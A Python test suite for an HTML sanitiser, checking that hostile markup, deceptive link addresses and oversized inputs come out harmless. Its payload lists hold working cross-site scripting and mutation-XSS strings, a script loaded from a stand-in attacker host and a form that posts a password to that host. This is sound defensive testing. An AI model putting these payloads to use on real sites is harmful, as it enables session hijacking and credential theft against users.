"""Nothing dangerous, nothing slow and nothing surprising comes through the one door."""

import html
import string

import lxml.html
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from lxml import etree

from node.text import sanitise
from node.text.allowed import BASIC_TAGS, LINK_REL, is_safe_link
from node.text.sanitise import CleanHtml, Subset, again, clean

TAGS = (
    "a abbr acronym address annotation annotation-xml applet area article aside audio b base bdi bdo "
    "bgsound blink blockquote body br button canvas caption center circle cite code col colgroup command "
    "data datalist dd del desc details dfn dialog dir div dl dt em embed fieldset figcaption figure font "
    "footer foreignobject form frame frameset g h1 h2 h3 h4 h5 h6 head header hgroup hr html i iframe "
    "image img input ins isindex kbd keygen label legend li link listing main malignmark map mark marquee "
    "math menu menuitem meta meter mglyph mi mn mo ms mtext nav nobr noembed noframes noscript object ol "
    "optgroup option output p param path picture plaintext portal pre progress q rb rp rt rtc ruby s samp "
    "script search section select semantics slot small source span strike strong style sub summary sup "
    "svg table tbody td template textarea tfoot th thead time title tr track tt u ul use var video wbr "
    "xmp "
)
EVERY_TAG = TAGS.split()

HOSTILE = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.test/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>alert(1)</script></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href="java\nscript:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href=" javascript:alert(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<p style="position:fixed;inset:0">x</p>',
    "<style>*{display:none}</style>x",
    '<iframe src="https://evil.test/"></iframe>',
    '<form action="https://evil.test/"><input name=password><button>Go</button></form>',
    '<object data="https://evil.test/"></object><embed src="https://evil.test/">',
    '<base href="https://evil.test/"><meta http-equiv=refresh content="0;url=https://evil.test/">',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p/onclick=alert(1)//x='>'>x</p>",
    '<a href="https://good.test/" onmouseover="alert(1)" target="_blank" id="login">x</a>',
    "<textarea><img title='</textarea><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    '<video><source onerror="alert(1)"></video>',
    "<details open ontoggle=alert(1)>x</details>",
    '<a href="https://good.test/"><table><a href="javascript:alert(1)">x',
    "<b " + "onclick=alert(1) " * 50 + ">x</b>",
]

UNSAFE_LINKS = [
    "//evil.test",
    "/relative",
    "relative",
    "#fragment",
    "?query",
    "https://good.test@evil.test/",
    "https://good.test:secret@evil.test/",
    "https://evil.test\\@good.test/",
    "https:evil.test",
    "https:///evil.test",
    "https://",
    "https://good.test/a b",
    "https://good.test\n.evil.test/",
    "https://good%2etest/",
    "mailto:a@good.test?bcc=b@evil.test",
    "ftp://good.test/",
    "HTTPS:",
    "javascript:alert(1)",
    "https://good.test/" + "a" * 2100,
]

OVER_THE_CAPS = {
    "nested 30 KB": "<b>" * 10_000,
    "nested 60 KB": "<b>" * 20_000,
    "nested 120 KB": "<b>" * 40_000,
    "1 MB of ampersands": "&amp;" * 200_000,
    "800 KB of paragraphs": "<p>" * 260_000,
    "nested in turn": "<b><p>" * 5_000,
    "attributes": "<b " + "a=b " * 20_000 + ">" + "<i>" * 61,
    "angle brackets": "<" * 60_000,
    "grows when escaped": ">" * 60_000,
    "too deep": "<blockquote>" * 61,
    "many tags": "<br>" * 2_001,
}


def _tree(markup: str) -> lxml.html.HtmlElement:
    return lxml.html.fragment_fromstring(markup, create_parent="div")


def _require_harmless(markup: str) -> None:
    for element in _tree(markup).iterdescendants():
        assert element.tag in BASIC_TAGS, markup
        assert set(element.attrib) <= {
            "href", "class", "translate", "lang", "start", "reversed", "value", "rel"
        }, markup  # fmt: skip
        assert is_safe_link(element.get("href", "https://none.test/")), markup


@pytest.mark.parametrize("markup", HOSTILE)
async def test_hostile_markup_becomes_harmless_as_lxml_reads_it(markup: str) -> None:
    """T-40."""
    result = await clean(f"<p>before {markup} after</p>")

    _require_harmless(result.html)
    assert "alert(1)" not in "".join(_tree(result.html).xpath(".//@*"))


@pytest.mark.parametrize("href", UNSAFE_LINKS)
async def test_a_link_that_hides_its_goal_loses_its_address(href: str) -> None:
    """Security 0.7, T-42."""
    result = await clean(f'<a href="{html.escape(href)}">text</a>')

    assert result == CleanHtml("<a>text</a>")


async def test_an_honest_link_keeps_its_address_and_gets_its_relations() -> None:
    result = await clean('<a href="https://good.test/a?b=1&amp;c=2#d" target="_blank" rel="me">text</a>')

    assert result == CleanHtml(f'<a href="https://good.test/a?b=1&amp;c=2#d" rel="{LINK_REL}">text</a>')


@pytest.mark.parametrize("name", OVER_THE_CAPS)
async def test_text_over_a_cap_never_reaches_bleach(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """T-41 and security 0.6: bounded by counts, not by a clock."""
    seen: list[int] = []
    monkeypatch.setattr(sanitise, "_second_opinion", lambda text, _: seen.append(len(text)) or text)

    result = await clean(OVER_THE_CAPS[name])

    assert seen == []
    assert result.is_reduced
    assert len(result.html) <= 5 * sanitise.LONGEST_ESCAPED + 7
    _require_harmless(result.html)


@pytest.mark.parametrize("tag", EVERY_TAG)
async def test_every_tag_without_attributes_passes_without_an_exception(tag: str) -> None:
    """V-M35."""
    for markup in (f"<{tag}>x", f"<{tag}>x</{tag}>", f"<{tag}/>", f"</{tag}>", f"<p><{tag}><b>x</{tag}>y"):
        result = await clean(markup)
        _require_harmless(result.html)
        assert await clean(result.html) == result


async def test_a_note_turns_headings_into_strong_lines() -> None:
    result = await clean("<h1>One</h1><h6 class='p-name'>Two</h6><hr>")

    assert result == CleanHtml("<p><strong>One</strong></p><p><strong>Two</strong></p>")


async def test_an_article_keeps_three_levels_of_headings_and_rules() -> None:
    result = await clean("<h1>One</h1><h3>Two</h3><h6>Three</h6><hr>", Subset.ARTICLE)

    assert result == CleanHtml("<h2>One</h2><h3>Two</h3><h4>Three</h4><hr>")


async def test_pictures_stay_only_where_they_were_asked_for() -> None:
    markup = '<img src="https://a.test/x.png" alt="A &lt;b&gt;" onerror="x"><img src="//a.test/y">'

    assert await clean(markup, Subset.ARTICLE) == CleanHtml("")
    assert (await clean(markup, Subset.ILLUSTRATED)).html.startswith('<img src="https://a.test/x.png" alt="A &lt;b')


async def test_the_markup_of_mentions_and_hashtags_stays() -> None:
    mention = (
        '<span class="h-card evil" translate="no"><a href="https://a.test/@x" class="u-url mention">@<span>x</span></a>'
        '</span> <a href="https://a.test/tags/x" class="mention hashtag" rel="tag">#<span>x</span></a>'
    )

    result = await clean(mention)

    assert result == CleanHtml(
        '<span class="h-card" translate="no"><a href="https://a.test/@x" class="u-url mention" '
        f'rel="{LINK_REL}">@<span>x</span></a></span> '
        f'<a href="https://a.test/tags/x" class="mention hashtag" rel="{LINK_REL}">#<span>x</span></a>'
    )


async def test_printing_checks_stored_markup_once_more() -> None:
    """T-40: sanitised at input, and again at render."""
    tampered = '<p>ok</p><script>alert(1)</script><a class="mention" href="https://a.test/">x</a>'

    assert again(tampered) == CleanHtml(f'<p>ok</p><a rel="{LINK_REL}" class="mention" href="https://a.test/">x</a>')


async def test_a_text_over_the_caps_is_shown_as_its_words() -> None:
    result = await clean("<p>Dear <b>all</b> &amp; sundry</p>" + "<i>" * 70)

    assert result == CleanHtml("<p>Dear all &amp; sundry</p>", is_reduced=True)


FRAGMENTS = st.lists(
    st.one_of(
        st.sampled_from([f"<{tag}>" for tag in EVERY_TAG] + [f"</{tag}>" for tag in EVERY_TAG]),
        st.sampled_from(
            ['<a href="https://a.test/?b&c">', '<a href="//x">', '<p class="h-x y" lang="fr">', "<ol start=3>"]
        ),
        st.sampled_from(["&amp;", "&", "&nbsp;", "&lt;", "&#x3c;", "&#0;", "<!--", "-->"]),
        st.sampled_from(["<", ">", '"', "'", "]]>", "\u00a0"]),
        st.text(string.printable + "é\u202e\u200b\x00\ufffe", max_size=8),
    ),
    max_size=25,
).map("".join)


@settings(max_examples=300, deadline=None)
@given(FRAGMENTS, st.sampled_from(list(Subset)))
async def test_cleaning_twice_changes_nothing(markup: str, subset: Subset) -> None:
    """V-M35, T-40: a fixed point, harmless and well-formed."""
    once = await clean(markup, subset)

    assert (await clean(once.html, subset)).html == once.html
    if subset is Subset.NOTE:
        _require_harmless(once.html)
        etree.tostring(_tree(once.html))
